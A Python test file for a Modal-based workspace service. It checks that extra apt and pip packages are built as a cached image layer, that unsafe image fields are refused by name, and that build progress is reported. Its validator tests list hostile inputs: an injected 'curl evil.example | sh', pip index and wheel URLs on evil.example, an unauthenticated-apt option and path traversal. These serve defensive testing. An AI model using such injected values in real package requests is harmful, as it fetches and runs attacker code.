"""A workspace request's image: a published image by name or an image id, and extra apt and pip
packages built as a cached layer on top of it. Checked by the core's policy (named fields)
before any Modal call; on the Modal driver against the local control plane with the real SDK;
refused on the local driver, naming the field."""

from __future__ import annotations

import asyncio
from collections import Counter
from pathlib import Path

import pytest
from modal_control_plane import ControlPlane, modal_control_plane
from modal_workspace_core.drivers.base import WorkspaceSpec
from modal_workspace_core.drivers.local.driver import LocalDriver
from modal_workspace_core.drivers.modal.driver import ModalDriver
from modal_workspace_core.drivers.modal.image_request import ImageRequest, build_progress
from modal_workspace_core.errors import InvalidArgumentError
from modal_workspace_core.operations.workspaces import WorkspaceCreate
from modal_workspace_core.policy import new_id
from modal_workspace_core.runtime.call import PROGRESS
from pydantic import ValidationError
from test_modal_driver import IMAGE, driver

__all__ = ["driver", "modal_control_plane"]  # the fixtures, imported for pytest to find

PACKAGES = {
    "apt_packages": ["ffmpeg", "libpq-dev=15.5-0+deb12u1"],
    "pip_packages": ["numpy==2.1.3"],
}


def _commands(plane: ControlPlane, image_id: str) -> list[str]:
    images = plane.call(lambda: dict(plane.state.images))
    return images[image_id].dockerfile_commands


@pytest.mark.parametrize(
    ("resources", "field"),
    [
        ({"apt_packages": ["-o", "APT::Get::AllowUnauthenticated=1"]}, "apt_packages"),
        ({"apt_packages": ["git; curl evil.example | sh"]}, "apt_packages"),
        ({"apt_packages": ["./local.deb"]}, "apt_packages"),
        ({"pip_packages": ["--index-url=https://evil.example/simple"]}, "pip_packages"),
        ({"pip_packages": ["requests @ https://evil.example/r.whl"]}, "pip_packages"),
        ({"pip_packages": ["requests>=2"]}, "pip_packages"),
        ({"pip_packages": [f"p{i}" for i in range(33)]}, "pip_packages"),
        ({"image_name": "../other"}, "image_name"),
        ({"image_id": "sn-0123"}, "image_id"),
    ],
)
def test_a_request_with_an_unsafe_image_field_is_refused_naming_it(
    resources: dict[str, object], field: str
) -> None:
    with pytest.raises(ValidationError) as caught:
        WorkspaceCreate.model_validate({"resources": resources})

    (error,) = caught.value.errors()
    assert error["loc"][:2] == ("resources", field)
    assert error["type"] != "extra_forbidden"  # a known field, refused for its value


def test_a_request_keeps_safe_packages_once_each() -> None:
    inp = WorkspaceCreate.model_validate(
        {"resources": {**PACKAGES, "apt_packages": ["jq", "jq", "ffmpeg"]}}
    )

    assert inp.resources.apt_packages == ["jq", "ffmpeg"]
    assert inp.resources.pip_packages == ["numpy==2.1.3"]


async def test_packages_are_a_cached_layer_on_the_workspace_image(
    driver: ModalDriver, modal_control_plane: ControlPlane
) -> None:
    workspace_id = new_id("ws")

    record = await driver.create(workspace_id, WorkspaceSpec(resources=PACKAGES))

    (sandbox,) = modal_control_plane.sandboxes()
    image_id = sandbox.definition.image_id
    assert image_id != "im-workspacetestimage00"
    commands = _commands(modal_control_plane, image_id)
    assert any("pip install" in c and "numpy==2.1.3" in c for c in commands)
    images = modal_control_plane.call(lambda: dict(modal_control_plane.state.images))
    apt = [c for image in images.values() for c in image.dockerfile_commands if "apt-get" in c]
    assert any("ffmpeg" in c and "libpq-dev=15.5-0+deb12u1" in c for c in apt)
    assert record.resources["apt_packages"] == PACKAGES["apt_packages"]
    assert record.resources["pip_packages"] == PACKAGES["pip_packages"]
    # The same packages again: the same image, built once.
    before = len(images)
    await driver.create(new_id("ws"), WorkspaceSpec(resources=PACKAGES))
    second = modal_control_plane.sandboxes()[1].definition.image_id
    assert second == image_id
    assert len(modal_control_plane.call(lambda: dict(modal_control_plane.state.images))) == before


async def test_an_image_by_id_with_packages_is_built_on_that_image(
    driver: ModalDriver, modal_control_plane: ControlPlane
) -> None:
    modal_control_plane.publish_image("another", "im-anotherimage000000")

    await driver.create(
        new_id("ws"),
        WorkspaceSpec(resources={"image_id": "im-anotherimage000000", "pip_packages": ["rich"]}),
    )

    (sandbox,) = modal_control_plane.sandboxes()
    assert sandbox.definition.image_id != "im-anotherimage000000"
    assert any("rich" in c for c in _commands(modal_control_plane, sandbox.definition.image_id))


async def test_the_driver_refuses_unsafe_packages_before_any_modal_call(
    driver: ModalDriver, modal_control_plane: ControlPlane
) -> None:
    before = modal_control_plane.calls()

    with pytest.raises(InvalidArgumentError) as caught:
        await driver.create(
            new_id("ws"), WorkspaceSpec(resources={"apt_packages": ["git", "--yes"]})
        )

    assert caught.value.field == "apt_packages"
    assert modal_control_plane.calls() == before
    with pytest.raises(InvalidArgumentError) as both:
        await driver.create(
            new_id("ws"),
            WorkspaceSpec(resources={"image_name": IMAGE, "image_id": "im-anotherimage000000"}),
        )
    assert both.value.field == "image_id"
    assert Counter(modal_control_plane.calls()) == before


@pytest.mark.parametrize("field", ["apt_packages", "pip_packages", "image_name", "image_id"])
async def test_the_local_driver_refuses_image_fields_naming_them(
    tmp_path: Path, field: str
) -> None:
    value: object = ["jq"] if field.endswith("packages") else "im-abc"
    local = LocalDriver(tmp_path / "data")

    with pytest.raises(InvalidArgumentError, match=f"resources.{field}") as caught:
        await local.create(new_id("ws"), WorkspaceSpec(resources={field: value}))

    assert caught.value.field == f"resources.{field}"
    assert not list((tmp_path / "data").glob("ws-*"))


async def test_building_the_package_layer_is_reported_to_the_callers_progress(
    driver: ModalDriver, modal_control_plane: ControlPlane
) -> None:
    heard: list[tuple[float, str]] = []

    async def report(progress: float, message: str) -> None:
        heard.append((progress, message))

    reset = PROGRESS.set(report)
    try:
        await driver.create(new_id("ws"), WorkspaceSpec(resources=PACKAGES))
        await driver.create(new_id("ws"), WorkspaceSpec())
    finally:
        PROGRESS.reset(reset)

    # Only the create with packages reports, from its start to its end, never going back.
    assert "apt: ffmpeg libpq-dev=15.5-0+deb12u1; pip: numpy==2.1.3" in heard[0][1]
    assert heard[-1][1] == "the image is ready and the workspace started"
    assert [p for p, _ in heard] == sorted(p for p, _ in heard)
    assert len(heard) == 2


async def test_a_long_build_keeps_saying_it_is_under_way() -> None:
    heard: list[str] = []

    async def report(progress: float, message: str) -> None:
        heard.append(message)

    reset = PROGRESS.set(report)
    try:
        # The beat's timer is due before the body's: at least one beat comes between.
        async with build_progress(ImageRequest(apt_packages=("jq",)), every=0.05):
            await asyncio.sleep(0.2)
    finally:
        PROGRESS.reset(reset)

    assert heard[0].startswith("building the image's package layer (apt: jq)")
    assert any(m.startswith("still building") for m in heard[1:-1])
    assert heard[-1] == "the image is ready and the workspace started"
